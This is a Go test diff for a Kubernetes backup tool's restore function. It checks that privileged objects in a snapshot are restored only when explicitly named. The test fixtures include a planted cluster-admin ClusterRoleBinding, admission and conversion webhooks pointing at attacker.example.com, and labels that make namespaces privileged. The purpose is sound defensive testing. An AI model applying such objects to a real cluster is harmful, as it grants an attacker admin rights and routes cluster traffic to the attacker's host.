@@ -8,6 +8,7 @@ import (
 
 	apierrors "k8s.io/apimachinery/pkg/api/errors"
 	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
+	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"
 	"k8s.io/apimachinery/pkg/runtime/schema"
 
 	"github.com/bunkerbackup/bunker/internal/testsrv"
@@ -87,5 +88,111 @@ func TestRestoreChecksObjectsAgainstTheirPath(t *testing.T) {
 	}
 	if _, err := c.Dynamic.Resource(schema.GroupVersionResource{Version: "v1", Resource: "configmaps"}).Namespace("team-a").Get(ctx, "honest", metav1.GetOptions{}); err != nil {
 		t.Errorf("the honest ConfigMap is not in team-a: %v", err)
+	}
+}
+
+// TestRestorePrivilegedOnlyWhenNamed (issue 15): a snapshot holding a
+// cluster-admin ClusterRoleBinding, an admission webhook, a CRD that
+// converts through a webhook and Pod Security labels that would make
+// namespaces privileged restores none of them unless named; a plain CRD
+// still comes back; a named kind comes back alone; pod-security-labels
+// brings the labels back.
+func TestRestorePrivilegedOnlyWhenNamed(t *testing.T) {
+	k := testsrv.Kube(t)
+	c, err := NewClients(k.Config())
+	if err != nil {
+		t.Fatal(err)
+	}
+	ctx := context.Background()
+	meta := func(name string) map[string]any { return map[string]any{"name": name} }
+	crb := map[string]any{"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "ClusterRoleBinding", "metadata": meta("planted-admin"),
+		"roleRef":  map[string]any{"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "cluster-admin"},
+		"subjects": []any{map[string]any{"kind": "User", "name": "tenant", "apiGroup": "rbac.authorization.k8s.io"}}}
+	hook := map[string]any{"apiVersion": "admissionregistration.k8s.io/v1", "kind": "ValidatingWebhookConfiguration", "metadata": meta("planted-hook"),
+		"webhooks": []any{map[string]any{"name": "x.example.com", "admissionReviewVersions": []any{"v1"}, "sideEffects": "None",
+			"clientConfig": map[string]any{"url": "https://attacker.example.com/"}}}}
+	crd := func(name, group string, webhook bool) map[string]any {
+		spec := map[string]any{"group": group, "scope": "Namespaced",
+			"names": map[string]any{"plural": "things", "singular": "thing", "kind": "Thing"},
+			"versions": []any{map[string]any{"name": "v1", "served": true, "storage": true,
+				"schema": map[string]any{"openAPIV3Schema": map[string]any{"type": "object", "x-kubernetes-preserve-unknown-fields": true}}}}}
+		if webhook {
+			spec["conversion"] = map[string]any{"strategy": "Webhook", "webhook": map[string]any{"conversionReviewVersions": []any{"v1"},
+				"clientConfig": map[string]any{"url": "https://attacker.example.com/convert"}}}
+		}
+		return map[string]any{"apiVersion": "apiextensions.k8s.io/v1", "kind": "CustomResourceDefinition", "metadata": meta("things." + group), "spec": spec}
+	}
+	privNS := func(name string) map[string]any {
+		return map[string]any{"apiVersion": "v1", "kind": "Namespace", "metadata": map[string]any{"name": name,
+			"labels": map[string]any{"pod-security.kubernetes.io/enforce": "privileged", "team": "a"}}}
+	}
+	tree := memTree{
+		"cluster/rbac.authorization.k8s.io/clusterrolebindings/planted-admin.json":               jsonOf(t, crb),
+		"cluster/admissionregistration.k8s.io/validatingwebhookconfigurations/planted-hook.json": jsonOf(t, hook),
+		"cluster/apiextensions.k8s.io/customresourcedefinitions/things.hooked.example.com.json":  jsonOf(t, crd("hooked.example.com", "hooked.example.com", true)),
+		"cluster/apiextensions.k8s.io/customresourcedefinitions/things.plain.example.com.json":   jsonOf(t, crd("plain.example.com", "plain.example.com", false)),
+		"cluster/core/namespaces/fresh.json":                                                     jsonOf(t, privNS("fresh")),
+		"cluster/core/namespaces/strict.json":                                                    jsonOf(t, privNS("strict")),
+	}
+	nsGVR := schema.GroupVersionResource{Version: "v1", Resource: "namespaces"}
+	strict := &unstructured.Unstructured{Object: map[string]any{"apiVersion": "v1", "kind": "Namespace", "metadata": map[string]any{"name": "strict",
+		"labels": map[string]any{"pod-security.kubernetes.io/enforce": "restricted"}}}}
+	if _, err := c.Dynamic.Resource(nsGVR).Create(ctx, strict, metav1.CreateOptions{}); err != nil {
+		t.Fatal(err)
+	}
+	restore := func(privileged ...string) map[string]Result {
+		t.Helper()
+		byName := map[string]Result{}
+		_, err := Restore(ctx, c, tree, RestoreOptions{Existing: ExistingUpdate, Privileged: privileged,
+			Report: func(r Result) { byName[r.Name] = r }})
+		if err != nil {
+			t.Fatal(err)
+		}
+		return byName
+	}
+	exists := func(gvr schema.GroupVersionResource, name string) bool {
+		_, err := c.Dynamic.Resource(gvr).Get(ctx, name, metav1.GetOptions{})
+		return err == nil
+	}
+	enforce := func(ns string) string {
+		u, err := c.Dynamic.Resource(nsGVR).Get(ctx, ns, metav1.GetOptions{})
+		if err != nil {
+			t.Fatal(err)
+		}
+		return u.GetLabels()["pod-security.kubernetes.io/enforce"]
+	}
+	crbGVR := schema.GroupVersionResource{Group: "rbac.authorization.k8s.io", Version: "v1", Resource: "clusterrolebindings"}
+	hookGVR := schema.GroupVersionResource{Group: "admissionregistration.k8s.io", Version: "v1", Resource: "validatingwebhookconfigurations"}
+	crdGVR := schema.GroupVersionResource{Group: "apiextensions.k8s.io", Version: "v1", Resource: "customresourcedefinitions"}
+
+	got := restore()
+	for _, name := range []string{"planted-admin", "planted-hook", "things.hooked.example.com"} {
+		if r := got[name]; r.Action != ActionSkipped || !strings.Contains(r.Reason, "--privileged") {
+			t.Errorf("%s: %s (%s), want skipped naming --privileged", name, r.Action, r.Reason)
+		}
+	}
+	if exists(crbGVR, "planted-admin") || exists(hookGVR, "planted-hook") || exists(crdGVR, "things.hooked.example.com") {
+		t.Error("a privileged object was restored without being named")
+	}
+	if !exists(crdGVR, "things.plain.example.com") {
+		t.Errorf("the plain CRD was not restored: %+v", got["things.plain.example.com"])
+	}
+	if e := enforce("fresh"); e != "" {
+		t.Errorf("new namespace: enforce=%q, want no Pod Security label from the snapshot", e)
+	}
+	if e := enforce("strict"); e != "restricted" {
+		t.Errorf("existing namespace: enforce=%q, want its own restricted kept", e)
+	}
+
+	restore("clusterrolebindings")
+	if !exists(crbGVR, "planted-admin") || exists(hookGVR, "planted-hook") {
+		t.Error("--privileged clusterrolebindings: want the binding alone")
+	}
+	if err := (&RestoreOptions{Privileged: []string{"nodes"}}).Validate(); err == nil {
+		t.Error("--privileged nodes accepted")
+	}
+	restore(PodSecurityLabels)
+	if e := enforce("strict"); e != "privileged" {
+		t.Errorf("with pod-security-labels: enforce=%q, want the snapshot's", e)
 	}
 }
